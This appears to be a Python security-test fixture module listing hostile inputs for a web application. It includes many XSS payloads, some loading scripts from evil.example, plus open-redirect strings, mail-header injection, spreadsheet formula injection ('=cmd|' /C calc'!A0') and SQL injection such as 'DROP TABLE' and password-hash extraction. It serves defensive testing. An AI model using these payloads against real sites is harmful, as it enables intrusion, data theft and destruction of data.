"""What attackers write where a text is asked for. Each XSS payload calls `hit` or asks evil.example, if it is run."""

_TAGS = (
    *("img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "input autofocus", "select autofocus"),
    *("textarea autofocus", "details open", "marquee", "object data=x", "embed src=x", "style", "math", "a href=#"),
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover")
_TAGS_WITH_EVENTS = [f"<{tag} {event}=hit({{n}})>" for tag in _TAGS for event in _EVENTS[:4]]
_SCRIPTS = [
    "<script>hit({n})</script>",
    "<ScRiPt>hit({n})</sCrIpT>",
    "<script src=https://evil.example/{n}.js></script>",
    "<script src=//evil.example/{n}.js>",
    "<<script>hit({n});//<</script>",
    "</script><script>hit({n})</script>",
    "</title><script>hit({n})</script>",
    "</textarea><script>hit({n})</script>",
    "--><script>hit({n})</script>",
    "]]><script>hit({n})</script>",
    "<scr<script>ipt>hit({n})</scr</script>ipt>",
    "<script\x0b>hit({n})</script>",
    "\\u003cscript\\u003ehit({n})\\u003c/script\\u003e",
    "&lt;script&gt;hit({n})&lt;/script&gt;",
    "%3Cscript%3Ehit({n})%3C/script%3E",
    "<svg><script>hit({n})</script></svg>",
    "<math><mtext><script>hit({n})</script>",
    "<template><script>hit({n})</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit({n})>'>",
    "<script type=module>import 'https://evil.example/{n}'</script>",
]
_ATTRIBUTES = [
    '" onmouseover=hit({n}) autofocus onfocus=hit({n}) x="',
    "' onmouseover=hit({n}) autofocus onfocus=hit({n}) x='",
    '"><img src=x onerror=hit({n})>',
    "'><img src=x onerror=hit({n})>",
    "`><img src=x onerror=hit({n})>",
    "x onerror=hit({n})",
    '" style="background:url(https://evil.example/{n})',
    '<p style="background:url(https://evil.example/{n})">x',
    '<div style="width:expression(hit({n}))">',
    "<style>@import 'https://evil.example/{n}.css';</style>",
    "<link rel=stylesheet href=https://evil.example/{n}.css>",
    "<link rel=prefetch href=https://evil.example/{n}>",
]
_PLACES = [
    "<meta http-equiv=refresh content='0;url=https://evil.example/{n}'>",
    "<base href=https://evil.example/{n}/>",
    "<form action=https://evil.example/{n}><button>Save</button></form>",
    "<iframe src=https://evil.example/{n}></iframe>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'></iframe>",
    "<iframe src=javascript:parent.hit({n})></iframe>",
    "<img src=https://evil.example/{n}.png>",
    "<img srcset='https://evil.example/{n}.png 1x'>",
    "<video poster=https://evil.example/{n}.png></video>",
    "<object data=https://evil.example/{n}.svg></object>",
    "<svg><image href=https://evil.example/{n}.svg /></svg>",
    "<svg><animate onbegin=hit({n}) attributeName=x dur=1s>",
    "<a href=javascript:hit({n})>click</a>",
    "<a href='java\tscript:hit({n})'>click</a>",
    "<a href=data:text/html,<script>hit({n})</script>>click</a>",
    "<a href=https://evil.example/{n} ping=https://evil.example/{n}>click</a>",
]
_MARKDOWN = [
    "[x](javascript:hit({n}))",
    "[x](JaVaScRiPt:hit({n}))",
    "[x](javascript&colon;hit({n}))",
    "[x](java\nscript:hit({n}))",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=#{n})",
    "[x](vbscript:hit({n}))",
    "![x](https://evil.example/{n}.png)",
    "![x](javascript:hit({n}))",
    '![x" onerror="hit({n})](x)',
    "[x]: javascript:hit({n})\n\n[x]",
    "<javascript:hit({n})>",
    "[x](<javascript:hit({n})>)",
    "[x](https://ok.example \"' onmouseover='hit({n})\")",
    "```html\n<script>hit({n})</script>\n```",
    "`<img src=x onerror=hit({n})>`",
    "[^x]\n\n[^x]: <img src=x onerror=hit({n})>",
    "| a |\n|---|\n| <img src=x onerror=hit({n})> |",
    "~~<svg onload=hit({n})>~~",
    "# <img src=x onerror=hit({n})>",
    "- [ ] <img src=x onerror=hit({n})>",
]
_TEMPLATES = [
    "{{{{constructor.constructor('hit({n})')()}}}}",
    "${{hit({n})}}",
    "#{{hit({n})}}",
    "<%= hit({n}) %>",
    "{{{{7*7}}}}{n}",
    "{{% import os %}}{n}",
    "__proto__[hit]={n}",
    "javascript:hit({n})",
    "data:text/html,<script>hit({n})</script>",
    "\u202e<script>hit({n})</script>\u202c",
    "\ufeff<img src=x onerror=hit({n})>",
    "<img src=x onerror=\u2028hit({n})>",
    "＜script＞hit({n})＜/script＞",
]
_FAMILIES = [*_SCRIPTS, *_ATTRIBUTES, *_PLACES, *_MARKDOWN, *_TEMPLATES, *_TAGS_WITH_EVENTS]
XSS = [f"xss{number}x " + text.replace("{n}", str(number)).replace("{{", "{").replace("}}", "}")
       for number, text in enumerate(_FAMILIES)]  # fmt: skip
"""Each begins with a mark by which it is found on a page."""

REDIRECTS = (
    *(
        "//evil.example",
        "///evil.example",
        "////evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "\\/evil.example",
    ),
    *("https://evil.example", "http:evil.example", "https:/evil.example", "javascript:alert(1)", "data:text/html,x"),
    *("/\t/evil.example", "/\n/evil.example", "\t//evil.example", " //evil.example", "/%09/evil.example\r\nx: y", ""),
    *(
        "evil.example",
        ".evil.example",
        "@evil.example",
        "https://plan.example.org@evil.example",
        "//evil.example/%2f..",
    ),
    *(
        "/\u2028/evil.example",
        "/\u00a0/\\evil.example",
        "//[::1]/",
        "//127.0.0.1",
        "ftp://evil.example",
        "//",
        "\0//evil",
    ),
)
"""None of them may be where a browser is sent to."""

HEADERS = (
    *("x\r\nBcc: everybody@example.org", "x\nBcc: everybody@example.org", "x\rBcc: everybody@example.org"),
    *(
        "x\r\n\r\n<script>hit(1)</script>",
        "x\x0bBcc: e@example.org",
        "x\x0cBcc: e@example.org",
        "x\x1cBcc: e@example.org",
    ),
    *("x\x85Bcc: e@example.org", "x\u2028Bcc: e@example.org", "x\u2029Bcc: e@example.org", "=?utf-8?q?x=0D=0ABcc:_e?="),
    *(
        "x\0Bcc: e@example.org",
        "x%0d%0aBcc: e@example.org",
        "\r\n.\r\nMAIL FROM:<e@example.org>",
        "\u202ex",
        "x" * 5000,
    ),
)
"""Would-be ends of a line in the subject of a mail, a name or a log."""

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1"),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example")', " =1+1", "＝1+1"),
)

SQL = (
    *(
        "' OR '1'='1",
        "'; DROP TABLE tasks; --",
        "' UNION SELECT password_hash FROM users --",
        "\\'; SELECT pg_sleep(9); --",
    ),
    *(
        "1; SELECT pg_sleep(9)",
        "%' OR 1=1 --",
        "$$; SELECT pg_sleep(9); $$",
        "') OR pg_sleep(9) IS NULL --",
        "%%%%%%%%",
        "____",
    ),
    *(
        "a:* & !b:*",
        "'a' <-> 'b'",
        "((((",
        "!!!!",
        "&|&|",
        ":*:*",
        "\\",
        "'",
        '"',
        "a'b\"c",
        "{1,2}",
        "NULL",
        "(?i)(a+)+$",
    ),
    *("a" * 500, "a " * 250, "%" * 300, "(a+)+" * 60, "\u0000x", "🙂" * 200, "é" * 300, "-" * 300, "<-> " * 60),
    *(
        "' AND 1=CAST((SELECT password_hash FROM users LIMIT 1) AS int) --",
        "*/ SELECT 1 /*",
        "/**/",
        "x'; SET ROLE postgres; --",
    ),
    *(
        "0x27",
        "%27%20OR%201=1",
        "CHR(39)",
        "\uff07 OR 1=1",
        "admin'--",
        "1e309",
        "-1",
        "2147483648",
        "9" * 200,
        "@@version",
        "x' IN BOOLEAN MODE",
        "[a-z]*$",
        "\x27; DELETE FROM users",
        "-- x",
    ),
)
"""Texts for a search, which must be searched for, quickly, and no more."""

UNICODE = (
    *(
        "\u202eevil\u202c",
        "\u2066x\u2069",
        "a\u200bb\u200cc\u200dd",
        "👩‍👩‍👧‍👦",
        "e\u0301",
        "é",
        "ﬁ",
        "Å",
        "Å",
        "ſ",
        "İ",
        "ß",
    ),
    *(
        "\ufeffx",
        "\u00adx",
        "Z\u0351\u036b\u0343\u036a\u0302",
        "\U0001d54f",
        "\U000e0041\U000e0042",
        "𝒳",
        "تجربة",
        "ทดสอบ",
    ),
    *("x\u2028y", "x\u2029y", "\ufffe", "\U0010ffff", "x\x7fy", "x\x1b[2Jy", "～", "₨", "Ǆ", "ﷺ"),
)
